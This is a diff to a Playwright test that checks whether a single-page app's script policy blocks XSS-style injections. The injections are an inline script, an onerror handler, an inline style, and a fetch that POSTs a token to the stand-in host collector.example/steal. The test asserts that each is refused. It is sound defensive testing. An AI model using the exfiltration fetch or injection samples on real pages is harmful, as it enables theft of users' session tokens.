@@ -1,5 +1,6 @@
 import { expect, test, type Page } from "@playwright/test";
 import { countLogLines, firstLogin, openPage, resetIssuer } from "../helpers";
+import { SPA } from "../origins";
 
 // The SPA holds tokens in its memory, so a script injected into its pages
 // could take them. Its pages allow only their own scripts (a nonce per
@@ -42,7 +43,8 @@ test("the app runs under its script policy, and a script injected into the page 
   await expect.poll(() => countLogLines(page, "Silent authentication succeeded")).toBe(1);
   expect(violations).toEqual([]);
 
-  // As an XSS would: an inline script and an inline handler, added to the page.
+  // As an XSS would: an inline script, an inline handler, an inline style,
+  // and a fetch that would carry a token to another origin.
   const ran = await page.evaluate(async () => {
     const flags = window as unknown as { __injected?: boolean; __handler?: boolean };
     const script = document.createElement("script");
@@ -52,12 +54,29 @@ test("the app runs under its script policy, and a script injected into the page 
     image.setAttribute("onerror", "window.__handler = true;");
     image.src = "data:,not-an-image";
     document.body.append(image);
+    const styled = document.createElement("p");
+    styled.setAttribute("style", "color: rgb(255, 0, 0)");
+    document.body.append(styled);
+    const sent = await fetch("https://collector.example/steal", { method: "POST", body: "token" }).then(
+      () => true,
+      () => false,
+    );
     await new Promise((resolve) => setTimeout(resolve, 500));
-    return { script: flags.__injected === true, handler: flags.__handler === true };
+    return {
+      script: flags.__injected === true,
+      handler: flags.__handler === true,
+      style: getComputedStyle(styled).color === "rgb(255, 0, 0)",
+      sent,
+    };
   });
-  expect(ran).toEqual({ script: false, handler: false });
-  await expect.poll(() => violations.map((v) => v.split(" ").slice(0, 2).join(" "))).toEqual([
-    "script-src-elem inline",
-    "script-src-attr inline",
-  ]);
+  expect(ran).toEqual({ script: false, handler: false, style: false, sent: false });
+  const refused = ["connect-src https://collector.example/steal", "script-src-attr inline", "script-src-elem inline", "style-src-attr inline"];
+  const seen = () => violations.map((v) => v.split(" ").slice(0, 2).join(" ")).sort();
+  await expect.poll(seen).toEqual(refused);
+
+  // The logout form posts to the provider (form-action) and comes back.
+  await page.getByRole("button", { name: "Log out" }).click();
+  await page.waitForURL(`${SPA}/`);
+  await expect(page.getByTestId("signed-out")).toBeVisible();
+  expect(seen()).toEqual(refused);
 });
